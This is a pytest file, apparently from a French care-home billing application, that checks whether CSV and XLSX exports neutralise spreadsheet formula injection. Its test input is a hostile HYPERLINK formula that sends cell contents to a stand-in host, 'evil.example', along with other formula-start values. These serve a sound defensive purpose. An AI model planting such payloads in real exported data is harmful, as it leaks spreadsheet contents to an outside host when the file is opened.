"""Formula injection: a hostile name typed in the application never becomes a live formula in an
export (journal CSV/XLSX, mailing campaign report, import template) — the shared writer of
``core.exports`` prefixes it with a single quote and XLSX cells stay strings."""
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from billing.models import Invoice
from billing.services.generation import period_generate
from billing.services.journal import journal_csv, journal_xlsx
from core.exports import csv_bytes, neutralize, xlsx_bytes
from imports.services.residents_templates import template_workbook
from mailing.models import MailCampaign, OutgoingMessage
from mailing.services.reports import campaign_xlsx
from payers.models import Payer
from residents.models import Resident

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def _all_cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _assert_no_formula(content: bytes, needle: str):
    cells = _all_cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hits = [c.value for c in cells if isinstance(c.value, str) and needle in c.value]
    assert hits and all(v.startswith("'") for v in hits), hits


@pytest.mark.parametrize("value", ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_neutralize_prefixes_formula_starts(value):
    assert neutralize(value) == "'" + value


def test_writer_keeps_numbers_and_dates_typed():
    content = csv_bytes([["Dupont", Decimal("-12.50"), date(2026, 4, 1), "-x"]])
    assert content.decode("utf-8-sig") == "Dupont;-12,50;01/04/2026;'-x\r\n"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("t", [[HOSTILE, Decimal("-3.10"), date(2026, 4, 1)]]))).active
    cells = sheet[1]
    assert cells[0].data_type == "s" and cells[0].value == "'" + HOSTILE
    assert cells[1].data_type == "n" and Decimal(str(cells[1].value)) == Decimal("-3.10")
    assert cells[2].is_date


@pytest.fixture
def hostile_period(billing_setup):
    stay = billing_setup.stay(gir=6)
    Resident.objects.filter(pk=stay.resident_id).update(external_ref="@EXT", first_name=HOSTILE)
    period = billing_setup.period(date(2026, 4, 1), date(2026, 4, 30))
    period_generate(period=period)
    # The debtor name snapshot of an invoice to a relative named like a formula.
    Invoice.objects.filter(period=period).update(debtor_name=HOSTILE)
    return period


def test_journal_csv_neutralises_hostile_names(hostile_period):
    text = journal_csv(hostile_period).decode("utf-8-sig")
    fields = [field for line in text.split("\r\n")[1:] if line for field in line.split(";")]
    assert any(f.startswith("\"'=HYPERLINK") for f in fields)
    assert "'@EXT" in fields
    assert not [f for f in fields if f.lstrip('"').startswith(("=", "+", "@"))]


def test_journal_xlsx_neutralises_hostile_names(hostile_period):
    content = journal_xlsx(hostile_period)
    _assert_no_formula(content, "HYPERLINK")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.cell(row=2, column=4).value == "'@EXT"
    assert isinstance(sheet.cell(row=2, column=11).value, (int, float))  # amounts stay numbers


def test_campaign_report_neutralises_subject_and_names(billing_setup):
    organisation = billing_setup.establishment.organisation
    campaign = MailCampaign.objects.create(organisation=organisation, label=HOSTILE, subject="=" + HOSTILE[1:])
    OutgoingMessage.objects.create(organisation=organisation, campaign=campaign, sender_email="a@example.org",
                                   recipients=["b@example.org"], subject=HOSTILE, body="x", related_label=HOSTILE,
                                   message_id="<1@example.org>", explanation="-1 erreur", sent_at=timezone.now())
    content = campaign_xlsx(campaign)
    _assert_no_formula(content, "HYPERLINK")
    assert "'-1 erreur" in [c.value for c in _all_cells(content)]


def test_import_template_neutralises_codes(billing_setup):
    Payer.objects.create(organisation=billing_setup.establishment.organisation, code="=1+1", name="Hostile",
                         kind="departement", departement=billing_setup.establishment.departement)
    content = template_workbook("residents", section=billing_setup.section)
    cells = _all_cells(content)
    assert not [c for c in cells if c.data_type == "f"]
    assert "'=1+1" in [c.value for c in cells]


def test_a_cell_made_outside_the_writer_is_neutralised_too():
    from openpyxl.cell import WriteOnlyCell

    from core.exports import XlsxWriter

    writer = XlsxWriter()
    sheet = writer.sheet("Feuille")
    writer.append([WriteOnlyCell(sheet, value=HOSTILE), WriteOnlyCell(sheet, value=Decimal("-12.50"))])
    cells = _all_cells(writer.to_bytes())
    assert [c.value for c in cells] == ["'" + HOSTILE, -12.5] and cells[0].data_type == "s"
